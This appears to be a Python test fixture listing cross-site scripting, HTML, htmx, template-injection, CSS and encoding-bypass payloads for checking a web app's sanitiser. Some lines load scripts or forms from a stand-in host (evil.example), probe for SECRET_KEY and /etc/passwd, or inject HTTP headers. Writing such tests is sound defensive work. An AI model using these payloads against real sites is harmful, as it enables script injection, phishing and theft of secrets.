"""Texts that try to become markup or code. One that succeeds runs `alert` or sends a request to evil.example."""

PAYLOADS = (
    # Tags
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=https://evil.example/x></object><embed src=//evil.example/x>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<button form=filters formaction=https://evil.example/>Show</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<b id=alerts>clobbered</b><img name=cookie><form name=htmx>",
    # SVG and MathML
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    # Markup that changes its meaning when it is parsed a second time
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<a title='x`><img src=x onerror=alert(1)>'>x</a>",
    # Ends of what surrounds the text
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1) y=",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><script>alert(1)</script>",
    "{\"a\": \"\\\"}'><img src=x onerror=alert(1)>",
    # htmx
    "<div hx-get=https://evil.example/ hx-trigger=load>x</div>",
    "<div data-hx-post=/tickets/tkt_1/close/ data-hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1) hx-on::load=alert(1) hx-vals='js:{a: alert(1)}'>x</div>",
    "<hx-partial hx-target='#alerts'><img src=x onerror=alert(1)></hx-partial>",
    "<div hx-swap-oob=innerHTML:#alerts>x</div><template hx type=partial>x</template>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\": false}'>",
    # Addresses
    "javascript:alert(1) JaVaScRiPt:alert(1) vbscript:msgbox(1) data:text/html,<script>alert(1)</script>",
    "java\tscript:alert(1) java\nscript:alert(1) \x01javascript:alert(1) &#106;avascript:alert(1)",
    "[x](javascript:alert(1)) <javascript:alert(1)> http://javascript:alert(1)/",
    "https://evil.example/\"onmouseover=alert(1) https://evil.example/'onclick='alert(1)",
    "https://evil.example/<script>alert(1)</script> https://evil.example/&quot;><b>",
    "https://cloud.hostup.se@evil.example/ http://evil.example\\@cloud.hostup.se https://еxample.com/",
    "//evil.example/ \\\\evil.example\\share file:///etc/passwd blob:https://evil.example/x",
    # Templates
    "{{ 7*7 }} {{ settings.SECRET_KEY }} {% debug %} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}} %s %(name)s {0} {name}",
    # Styles
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/)'>x</p>",
    "red;}body{display:none}/* expression(alert(1)) url(javascript:alert(1))",
    # Characters
    "\x00<\x00script>alert(1)</script>",
    "\u202egpj.exe \u2066isolate \u200bzero \ufeffwidth \u2028line \x85 \x1b[31mred",
    "＜script＞alert(1)＜/script＞ ʺ›‹img src=x onerror=alert(1)›",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \xbcscript\xbealert(1)\xbc/script\xbe",
    "W" * 3000,
    "../../../../etc/passwd\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>",
)  # fmt: skip
ALL = " ".join(PAYLOADS)
# Short enough for every field, and breaks out of every place where a text can be inserted.
POLYGLOT = "'\"></title></textarea></script></template><img src=x onerror=alert(1)><svg onload=alert(1)>{{7*7}}"
